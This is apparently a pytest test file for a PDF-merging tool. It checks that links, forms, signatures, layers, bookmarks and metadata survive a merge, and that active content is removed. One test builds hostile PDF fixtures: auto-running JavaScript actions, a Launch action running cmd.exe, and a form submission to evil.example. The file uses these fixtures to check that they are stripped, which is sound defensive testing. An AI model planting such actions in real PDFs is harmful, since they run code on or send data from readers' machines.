"""Nothing is lost or crossed: hostile pairs of sources, read back with pypdf and pdfium.

Long because each thing that a source can hold is lost in its own way.
"""

import subprocess
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from annexa.pdf.source import SourceRefused, open_source
from annexa.pdf.trees import read_names
from annexa.plan import safe_names


def link(pdf: pikepdf.Pdf, page: int, **entries: object) -> None:
    """Adds a link annotation to a page, counted from 1."""
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([10, 10, 50, 30]), **entries)
    annots = pdf.pages[page - 1].obj.get("/Annots", Array())
    annots.append(pdf.make_indirect(annotation))
    pdf.pages[page - 1].obj["/Annots"] = annots


# ------------------------------------------------------------------------------------------------ destinations


def test_equal_destination_names_stay_with_their_own_source(draw, merge_files):
    def chapter_on_last_page(pdf):
        last = pdf.pages[-1].obj
        pdf.Root.Names = Dictionary(Dests=Dictionary(Names=Array([String("chapter"), Array([last, Name.Fit])])))
        link(pdf, 1, Dest=String("chapter"))

    bundle = merge_files(draw("one", 2, chapter_on_last_page), draw("two", 4, chapter_on_last_page))
    assert bundle.link_pages(1) == [2]
    assert bundle.link_pages(3) == [6]
    assert len(bundle.reader.named_destinations) == 2


def test_a_document_that_is_there_twice_leads_to_its_own_pages_both_times(draw, typeset, merge_files):
    def chapter_on_last_page(pdf):
        last = pdf.pages[-1].obj
        pdf.Root.Names = Dictionary(Dests=Dictionary(Names=Array([String("chapter"), Array([last, Name.Fit])])))
        link(pdf, 1, Dest=String("chapter"))

    named = draw("one", 3, chapter_on_last_page)
    bundle = merge_files(named, named)
    assert (bundle.link_pages(1), bundle.link_pages(4)) == ([3], [6])
    table = typeset("table", "#table(columns: 2, table.header[a][b], [1], [2], [3], [4])#footnote[A note]")
    ids = [name for name, _ in read_names(merge_files(table, table).merged.pdf.Root.StructTreeRoot.IDTree)]
    assert len(ids) == len(set(ids)) > 1


def test_the_older_kind_of_names_and_go_to_actions_work(draw, merge_files):
    def old_names(pdf):
        pdf.Root.Dests = Dictionary(Chapter=Array([pdf.pages[1].obj, Name.Fit]))
        link(pdf, 1, Dest=Name.Chapter)
        link(pdf, 1, A=Dictionary(S=Name.GoTo, D=Name.Chapter))
        link(pdf, 1, A=Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])))

    bundle = merge_files(draw("one", 3), draw("two", 3, old_names))
    assert bundle.link_pages(4) == [5, 5, 5]


def test_a_link_to_nowhere_is_taken_off_and_said(draw, merge_files):
    bundle = merge_files(draw("one", 1, lambda pdf: link(pdf, 1, Dest=String("gone"))))
    assert bundle.link_pages(1) == []
    assert bundle.sources[0].removed["links to a place that does not exist"] == 1


def test_thousands_of_destinations_with_equal_names_keep_their_places(draw, merge_files):
    def many(pdf):
        flat = []
        for at in range(600):
            flat += [String(f"place-{at:04}"), Array([pdf.pages[at % 3].obj, Name.Fit])]
        pdf.Root.Names = Dictionary(Dests=Dictionary(Names=Array(flat)))
        link(pdf, 1, Dest=String("place-0599"))

    bundle = merge_files(*[draw(f"d{number}", 3, many) for number in range(4)])
    assert len(bundle.reader.named_destinations) == 2400
    assert [bundle.link_pages(3 * at + 1) for at in range(4)] == [[3], [6], [9], [12]]


def test_links_between_documents_become_jumps_inside(draw, merge_files):
    def neighbours(pdf):
        link(pdf, 1, A=Dictionary(S=Name.URI, URI=String("../3.2-item/two.pdf")))
        link(pdf, 1, A=Dictionary(S=Name.GoToR, F=String("TWO.PDF"), D=Array([1, Name.Fit])))
        link(pdf, 1, A=Dictionary(S=Name.Launch, F=String("two.pdf")))
        link(pdf, 1, A=Dictionary(S=Name.URI, URI=String("file:///C:/Users/someone/two.pdf")))
        link(pdf, 1, A=Dictionary(S=Name.URI, URI=String("two.pdf#end")))

    def end(pdf):
        place = Array([pdf.pages[2].obj, Name.Fit])
        pdf.Root.Names = Dictionary(Dests=Dictionary(Names=Array([String("end"), place])))

    bundle = merge_files(draw("one", 2, neighbours), draw("two", 3, end))
    assert bundle.link_pages(1) == [3, 4, 3, 3, 5]


@pytest.mark.parametrize(
    ("address", "page", "lost"),
    [
        ("two.pdf#page=3", 5, ""),
        ("two.pdf#PAGE=2&zoom=100", 4, ""),
        ("two.pdf#page=0", 3, ""),
        ("two.pdf#page=9", 3, "page 9"),
        ("two.pdf#page=two", 3, ""),
        ("two.pdf#nameddest=end", 5, ""),
        ("two.pdf#nameddest=my%20place&page=1", 4, ""),
        ("two.pdf#my%20place", 4, ""),
        ("two.pdf#Old", 4, ""),
        ("two.pdf#gone", 3, "the place “gone”"),
        ("#page=2", 2, ""),
        ("TWO.PDF#view=Fit", 3, ""),
    ],
)
def test_a_link_to_a_page_of_another_document_lands_there(draw, merge_files, address, page, lost):
    def places(pdf):
        end, mine = (Array([pdf.pages[at].obj, Name.Fit]) for at in (2, 1))
        pdf.Root.Names = Dictionary(Dests=Dictionary(Names=Array([String("end"), end, String("my place"), mine])))
        pdf.Root.Dests = Dictionary(Old=mine)

    pointing = draw("one", 2, lambda pdf: link(pdf, 1, A=Dictionary(S=Name.URI, URI=String(address))))
    bundle = merge_files(pointing, draw("two", 3, places))
    assert bundle.link_pages(1) == [page]
    annotation = bundle.reader.pages[0]["/Annots"][0].get_object()
    assert annotation["/Contents"].startswith(f"Go to page {page}: ")
    said = [f"A link to {lost} of “two” leads to its first page: it has none."] if lost else []
    assert bundle.merged.notes.get(0, []) == said


def test_a_jump_into_another_file_names_its_place_in_each_way(draw, merge_files):
    def neighbours(pdf):
        for where in (String("end"), Name.end, Array([1, Name.Fit])):
            link(pdf, 1, A=Dictionary(S=Name.GoToR, F=String("two.pdf"), D=where))

    def old(pdf):
        pdf.Root.Dests = Dictionary(end=Array([pdf.pages[2].obj, Name.Fit]))

    assert merge_files(draw("one", 1, neighbours), draw("two", 3, old)).link_pages(1) == [4, 4, 3]


@pytest.mark.parametrize(
    ("address", "base", "kept"),
    [
        ("www.testshire.gov.uk/send", "", "http://www.testshire.gov.uk/send"),
        (
            "offer/page.html",
            "https://www.testshire.gov.uk/local/",
            "https://www.testshire.gov.uk/local/offer/page.html",
        ),
        ("/offer?x=1", "https://www.testshire.gov.uk/local/", "https://www.testshire.gov.uk/offer?x=1"),
        ("//cdn.testshire.gov.uk/a", "https://www.testshire.gov.uk/", "https://cdn.testshire.gov.uk/a"),
        ("https://example.org/", "https://www.testshire.gov.uk/", "https://example.org/"),
        ("ftp://files.testshire.gov.uk/a.pdf", "", "ftp://files.testshire.gov.uk/a.pdf"),
    ],
)
def test_an_address_without_its_beginning_is_made_whole(draw, merge_files, address, base, kept):
    def web(pdf):
        link(pdf, 1, A=Dictionary(S=Name.URI, URI=String(address)))
        if base:
            pdf.Root.URI = Dictionary(Base=String(base))

    annotation = merge_files(draw("one", 1, web)).reader.pages[0]["/Annots"][0].get_object()
    assert annotation["/A"]["/URI"] == kept


@pytest.mark.parametrize("base", ["javascript:alert(1)/", "file:///C:/Users/a.person/"])
def test_a_base_that_is_no_web_site_makes_nothing_whole(draw, merge_files, base):
    def web(pdf):
        link(pdf, 1, A=Dictionary(S=Name.URI, URI=String("offer.html")))
        pdf.Root.URI = Dictionary(Base=String(base))

    bundle = merge_files(draw("one", 1, web))
    assert "/A" not in bundle.reader.pages[0]["/Annots"][0].get_object()
    assert bundle.merged.notes == {0: ["A link to “offer.html” leads out of the bundle and was taken off."]}


def test_an_address_that_no_browser_opens_is_named(draw, merge_files):
    source = merge_files(
        draw("one", 1, lambda pdf: link(pdf, 1, A=Dictionary(S=Name.URI, URI=String("javascript:alert(1)"))))
    ).sources[0]
    assert source.removed["links with an address that no browser opens safely"] == 1
    assert source.notes == ["A link was taken off, since no browser opens it safely: javascript:alert(1)"]


def test_a_link_to_a_file_outside_is_taken_off_without_naming_folders(draw, merge_files):
    def outside(pdf):
        link(pdf, 1, A=Dictionary(S=Name.URI, URI=String("file:///C:/Users/a.person/Desktop/notes.docx")))

    bundle = merge_files(draw("one", 1, outside))
    assert bundle.merged.notes == {0: ["A link to “notes.docx” leads out of the bundle and was taken off."]}
    assert b"a.person" not in bundle.path.read_bytes()


@pytest.mark.parametrize("flags", [{}, {"F": 0}, {"F": 2}, {"F": 4}, {"F": Name.Odd}], ids=str)
@pytest.mark.parametrize("plain", [True, False])
def test_links_are_printed_with_their_page(draw, merge_files, flags, plain):
    def web(pdf):
        odd = {} if plain else {"T": String("A. Person")}
        link(pdf, 1, A=Dictionary(S=Name.URI, URI=String("https://www.gov.uk/")), **flags, **odd)

    annotation = merge_files(draw("one", 1, web)).reader.pages[0]["/Annots"][0].get_object()
    given = flags.get("F")
    assert annotation["/F"] == 4 | (given if isinstance(given, int) else 0)


def test_web_links_stay(draw, merge_files):
    def web(pdf):
        link(pdf, 1, A=Dictionary(S=Name.URI, URI=String("https://www.gov.uk/")))

    bundle = merge_files(draw("one", 1, web))
    annotation = bundle.reader.pages[0]["/Annots"][0].get_object()
    assert annotation["/A"]["/URI"] == "https://www.gov.uk/"
    assert annotation["/Contents"] == "https://www.gov.uk/"


# ------------------------------------------------------------------------------------------------ forms, signatures


def text_field(pdf, value, *, tooltip="Name"):
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            TU=String(tooltip),
            V=String(value),
            DA=String("/Helv 12 Tf 0 g"),
            Rect=Array([50, 100, 250, 130]),
            F=4,
        )
    )
    pdf.pages[0].obj["/Annots"] = Array([widget])
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([widget]), NeedAppearances=True, DR=Dictionary(Font=Dictionary(Helv=font)), XFA=String("<xdp/>")
    )


def test_equal_field_names_keep_their_values_as_text(draw, merge_files):
    one = draw("one", 1, lambda pdf: text_field(pdf, "First answer"))
    two = draw("two", 1, lambda pdf: text_field(pdf, "Second answer"))
    bundle = merge_files(one, two)
    assert "First answer" in bundle.text(1)
    assert "Second answer" in bundle.text(2)
    assert "/AcroForm" not in bundle.reader.trailer["/Root"]
    assert not bundle.reader.get_fields()


def test_a_signature_is_flattened_and_said(draw, merge_files):
    def sign(pdf):
        form = pdf.make_stream(b"0 0 1 rg 0 0 100 40 re f", Type=Name.XObject, Subtype=Name.Form)
        form["/BBox"] = Array([0, 0, 100, 40])
        signature = Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), Contents=String(b"\0" * 20))
        widget = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Sig,
                T=String("signed"),
                V=pdf.make_indirect(signature),
                AP=Dictionary(N=form),
                Rect=Array([50, 50, 150, 90]),
                F=4,
            )
        )
        pdf.pages[0].obj["/Annots"] = Array([widget])
        pdf.Root.AcroForm = Dictionary(Fields=Array([widget]), SigFlags=3)

    bundle = merge_files(draw("one", 1, sign))
    assert bundle.sources[0].removed["digital signatures"] == 1
    assert "signed original is beside this bundle" in bundle.sources[0].notes[0]
    assert "/AcroForm" not in bundle.reader.trailer["/Root"]
    picture = bundle.pdfium[0].render(scale=1).to_pil()
    assert picture.getpixel((100, 500 - 70)) == (0, 0, 255), "what could be seen of the signature stays"


# ------------------------------------------------------------------------------------------------ layers


def test_a_layer_that_is_off_stays_off_beside_one_of_the_same_name(draw, merge_files):
    def layer(shown):
        def change(pdf):
            group = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("Notes")))
            page = pdf.pages[0].obj
            page.Resources.Properties = Dictionary(MC0=group)
            page.Contents = pdf.make_stream(b"/OC /MC0 BDC 1 0 0 rg 100 100 100 100 re f EMC")
            state = Dictionary(ON=Array([group])) if shown else Dictionary(OFF=Array([group]))
            pdf.Root.OCProperties = Dictionary(OCGs=Array([group]), D=state)

        return change

    bundle = merge_files(draw("shown", 1, layer(True)), draw("hidden", 1, layer(False)))
    colours = [bundle.pdfium[at].render(scale=1).to_pil().getpixel((150, 350)) for at in (0, 1)]
    assert colours == [(255, 0, 0), (255, 255, 255)]


# ------------------------------------------------------------------------------------------------ active content


def test_whatever_runs_or_sends_is_gone(draw, merge_files):
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert('HIDDEN-SCRIPT')"))

    def hostile(pdf):
        pdf.Root.OpenAction = script
        pdf.Root.AA = Dictionary(WC=script)
        pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))
        pdf.pages[0].obj["/AA"] = Dictionary(O=script)
        link(pdf, 1, A=script)
        link(pdf, 1, A=Dictionary(S=Name.Launch, Win=Dictionary(F=String("HIDDEN-cmd.exe"), P=String("/c dir"))))
        link(pdf, 1, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")))
        link(pdf, 1, A=Dictionary(S=Name.URI, URI=String("java\tscript:alert(1)")), AA=Dictionary(E=script))
        link(pdf, 1, A=Dictionary(S=Name.URI, URI=String("https://ok.example/"), Next=script))
        link(pdf, 1, A=Dictionary(S=Name.Rendition, JS=String("HIDDEN-rendition")))

    bundle = merge_files(draw("one", 1, hostile))
    with pikepdf.open(bundle.path) as pdf:
        everything = b"".join(each.unparse(resolved=True) for each in pdf.objects)
    for word in (b"JavaScript", b"HIDDEN", b"Launch", b"SubmitForm", b"Rendition", b"/AA", b"evil.example", b"alert"):
        assert word not in everything, word
    assert b"https://ok.example/" in everything
    assert bundle.sources[0].removed["scripts"] >= 3


def test_attachments_are_handed_over_not_merged(draw, merge_files):
    def attach(pdf):
        pdf.attachments["figures.csv"] = b"a,b\n1,2\n"
        file = pdf.make_stream(b"spoken", Type=Name.EmbeddedFile)
        specification = Dictionary(Type=Name.Filespec, F=String("note.txt"), EF=Dictionary(F=file))
        annotation = Dictionary(
            Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]), FS=specification
        )
        pdf.pages[0].obj["/Annots"] = Array([pdf.make_indirect(annotation)])

    bundle = merge_files(draw("one", 1, attach), draw("two", 1, attach))
    for source in bundle.sources:
        assert {(each.name, each.content) for each in source.attachments} == {
            ("figures.csv", b"a,b\n1,2\n"),
            ("note.txt", b"spoken"),
        }
    assert not bundle.reader.attachments
    assert "/Annots" not in bundle.reader.pages[0]


def test_names_of_persons_are_gone(typeset, draw, merge_files):
    def comment(pdf):
        note = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Text,
            T=String("A. Person"),
            Contents=String("Fine."),
            Rect=Array([0, 0, 9, 9]),
        )
        pdf.pages[0].obj["/Annots"] = Array([pdf.make_indirect(note)])
        pdf.docinfo["/Author"] = String("A. Person")
        pdf.pages[0].obj["/PieceInfo"] = Dictionary(Word=Dictionary(Private=String("A. Person")))

    bundle = merge_files(typeset("one", "= One"), draw("two", 1, comment))
    with pikepdf.open(bundle.path) as pdf:
        everything = b"".join(each.unparse(resolved=True) for each in pdf.objects)
        assert b"Person" not in everything
        assert b"Secret Author" not in everything
        assert b"Fine." in everything
    assert bundle.reader.metadata.author is None


# ------------------------------------------------------------------------------------------------ bookmarks, labels


def titles(outline, depth=0):
    """Titles of a pypdf outline with their depth."""
    for each in outline:
        if isinstance(each, list):
            yield from titles(each, depth + 1)
        else:
            yield depth, each.title


def test_bookmarks_keep_their_tree_and_carry_their_page(typeset, merge_files):
    text = "#pagebreak()\n= Chapter\n== Section\n#pagebreak()\n= Last"
    bundle = merge_files(typeset("one", text), typeset("two", text))
    assert list(titles(bundle.reader.outline)) == [
        (0, "one – page 1"),
        (1, "Chapter – page 2"),
        (2, "Section – page 2"),
        (1, "Last – page 3"),
        (0, "two – page 4"),
        (1, "Chapter – page 5"),
        (2, "Section – page 5"),
        (1, "Last – page 6"),
    ]

    def check(outline):
        for each in outline:
            if isinstance(each, list):
                check(each)
            else:
                assert each.title.endswith(f"page {bundle.page_of(each)}")

    check(bundle.reader.outline)


def test_the_number_that_a_page_had_in_its_source_stays_in_the_bookmark(draw, merge_files):
    def roman(pdf):
        pdf.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.r), 2, Dictionary(S=Name.D, P=String("A-"))]))
        with pdf.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("Preface", 1))
            outline.root.append(pikepdf.OutlineItem("Start", 2))

    bundle = merge_files(draw("one", 3, roman))
    assert [title for _, title in titles(bundle.reader.outline)] == [
        "one – page 1",
        "Preface – page 2, there page ii",
        "Start – page 3, there page A-1",
    ]


def test_a_circle_of_bookmarks_ends(draw, merge_files):
    def circle(pdf):
        with pdf.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("A", 0))
            outline.root.append(pikepdf.OutlineItem("B", 1))
        pdf.Root.Outlines.Last.Next = pdf.Root.Outlines.First

    bundle = merge_files(draw("one", 2, circle))
    assert len(list(titles(bundle.reader.outline))) == 3


# ------------------------------------------------------------------------------------------------ the file


def test_qpdf_finds_nothing_wrong_and_the_opening_view_is_right(typeset, draw, merge_files):
    bundle = merge_files(typeset("one", "= One\n#link(<a>)[there]\n#pagebreak()\n= There <a>"), draw("two", 2))
    done = subprocess.run(["qpdf", "--check", str(bundle.path)], capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
    root = bundle.reader.trailer["/Root"]
    assert root["/PageMode"] == "/UseOutlines"
    assert root["/ViewerPreferences"]["/DisplayDocTitle"].value is True
    assert [str(part) for part in root["/OpenAction"][1:]] == ["/XYZ", "NullObject", "NullObject", "1"]
    assert root["/Lang"] == "en-GB"
    assert bundle.reader.metadata.title == "A bundle"
    assert bundle.reader.xmp_metadata.dc_title == {"x-default": "A bundle"}


def test_equal_input_gives_equal_bytes_and_other_input_another_identity(typeset, draw, merge_files):
    one, two = typeset("one", "= One\n#lorem(50)"), draw("two", 2)
    first, second, third = merge_files(one, two), merge_files(one, two), merge_files(two, one)
    assert first.path.read_bytes() == second.path.read_bytes()
    assert first.reader.trailer["/ID"] != third.reader.trailer["/ID"]


def test_a_pdf_that_restricts_copying_is_merged_and_said(draw, merge_files, tmp_path):
    path = draw("one", 1)
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        allow = pikepdf.Permissions(extract=False)
        pdf.save(path, encryption=pikepdf.Encryption(owner="secret", user="", allow=allow))
    bundle = merge_files(path)
    assert "restricts copying" in bundle.sources[0].notes[0]
    assert "one page 1" in bundle.text(1)


def test_what_cannot_be_merged_is_refused_with_a_reason(draw, tmp_path):
    locked = draw("locked", 1)
    with pikepdf.open(locked, allow_overwriting_input=True) as pdf:
        pdf.save(locked, encryption=pikepdf.Encryption(owner="a", user="b"))
    damaged = tmp_path / "damaged.pdf"
    damaged.write_bytes(b"%PDF-1.7\nnothing")
    empty = tmp_path / "empty.pdf"
    empty.write_bytes(b"")
    pageless = tmp_path / "pageless.pdf"
    pikepdf.new().save(pageless)
    reasons = {locked: "needs a password", damaged: "damaged", empty: "damaged", pageless: "no pages"}
    for path, reason in reasons.items():
        with pytest.raises(SourceRefused, match=reason):
            open_source(path, prefix="1.", title="A document")


def test_a_power_cut_while_saving_leaves_the_old_file(draw, merge_files, monkeypatch, tmp_path):
    bundle = merge_files(draw("one", 1))
    target = tmp_path / "target.pdf"
    target.write_bytes(b"the old bundle")

    def cut(*_: object, **__: object) -> None:
        raise OSError("no power")

    monkeypatch.setattr(Path, "replace", cut)
    from annexa.pdf import save

    with pytest.raises(OSError, match="no power"):
        save.save(bundle.merged.pdf, target)
    assert target.read_bytes() == b"the old bundle"
    assert [path.name for path in tmp_path.iterdir() if path.name.endswith(".part")] == []


def test_names_are_safe_everywhere():
    assert safe_names.safe_name("3.4 Destinations: who? <all>", suffix=".pdf") == "3.4 Destinations who all.pdf"
    assert safe_names.safe_name("con", suffix=".pdf") == "_con.pdf"
    assert safe_names.safe_name("...", suffix=".pdf") == "unnamed.pdf"
    taken: set[str] = set()
    assert [safe_names.distinct(name, taken) for name in ("A.pdf", "a.PDF", "b")] == ["A.pdf", "a (2).PDF", "b"]
